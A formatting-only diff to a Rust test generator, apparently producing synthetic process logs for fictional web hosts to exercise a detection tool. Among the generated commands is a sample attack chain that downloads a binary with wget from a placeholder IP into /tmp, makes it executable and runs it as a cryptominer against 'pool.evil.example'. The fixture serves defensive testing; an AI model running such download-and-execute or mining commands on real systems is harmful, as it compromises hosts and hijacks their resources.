@@ -40,13 +40,8 @@ impl Host<'_> {
         self.at += 7;
         self.next_pid += 1;
         let (secs, pid) = (self.at / 10, self.next_pid);
-        let time = format!(
-            "2019-11-04 {:02}:{:02}:{:02}.{}",
-            secs / 3600 % 24,
-            secs / 60 % 60,
-            secs % 60,
-            self.at % 10
-        );
+        let time =
+            format!("2019-11-04 {:02}:{:02}:{:02}.{}", secs / 3600 % 24, secs / 60 % 60, secs % 60, self.at % 10);
         let id = format!("{}-{pid}", self.name);
         self.lines.push(common::line(&id, &time, &self.name, cmd_line, pid, parent, parent_name));
         pid
@@ -58,8 +53,13 @@ impl Host<'_> {
     }
 
     fn ordinary(&mut self, dice: &mut Dice) {
-        const ORDINARY: &[&str] =
-            &["/bin/ls -l /var/log", "/usr/bin/df -h", "/bin/ps aux", "/usr/bin/uptime", "/usr/bin/tail -n 50 /var/log/syslog"];
+        const ORDINARY: &[&str] = &[
+            "/bin/ls -l /var/log",
+            "/usr/bin/df -h",
+            "/bin/ps aux",
+            "/usr/bin/uptime",
+            "/usr/bin/tail -n 50 /var/log/syslog",
+        ];
         match dice.roll(3) {
             0 => {
                 let shell = self.session();
@@ -92,7 +92,8 @@ impl Host<'_> {
             }
             _ => {
                 let server = ["203.0.113.5", "203.0.113.99"][which];
-                let wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
+                let wallet =
+                    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
                 self.start(&format!("/usr/bin/wget -O /tmp/.m http://{server}/m"), shell, "/bin/bash");
                 self.start("/bin/chmod +x /tmp/.m", shell, "/bin/bash");
                 let miner = format!("/tmp/.m -o stratum+tcp://pool.evil.example:3333 -u {wallet} -p x");
@@ -108,12 +109,7 @@ fn records() -> Vec<String> {
     let mut dice = Dice(0x5eed);
     let mut lines = Vec::new();
     for host in 0..6 {
-        let mut host = Host {
-            name: format!("web{host}.example"),
-            at: 300_000,
-            next_pid: 1000,
-            lines: &mut lines,
-        };
+        let mut host = Host { name: format!("web{host}.example"), at: 300_000, next_pid: 1000, lines: &mut lines };
         for n in 0..140 {
             host.ordinary(&mut dice);
             if n % 40 == 20 {
@@ -188,9 +184,8 @@ fn same(a: &Findings, b: &Findings, what: &str) {
         let other = &b[file];
         if bytes != other {
             let at = bytes.iter().zip(other).position(|(a, b)| a != b).unwrap_or(bytes.len().min(other.len()));
-            let near = |it: &[u8]| {
-                String::from_utf8_lossy(&it[at.saturating_sub(120)..(at + 120).min(it.len())]).into_owned()
-            };
+            let near =
+                |it: &[u8]| String::from_utf8_lossy(&it[at.saturating_sub(120)..(at + 120).min(it.len())]).into_owned();
             panic!("{what}: {file} differs at byte {at}:\n{}\n-- and --\n{}", near(bytes), near(other));
         }
     }
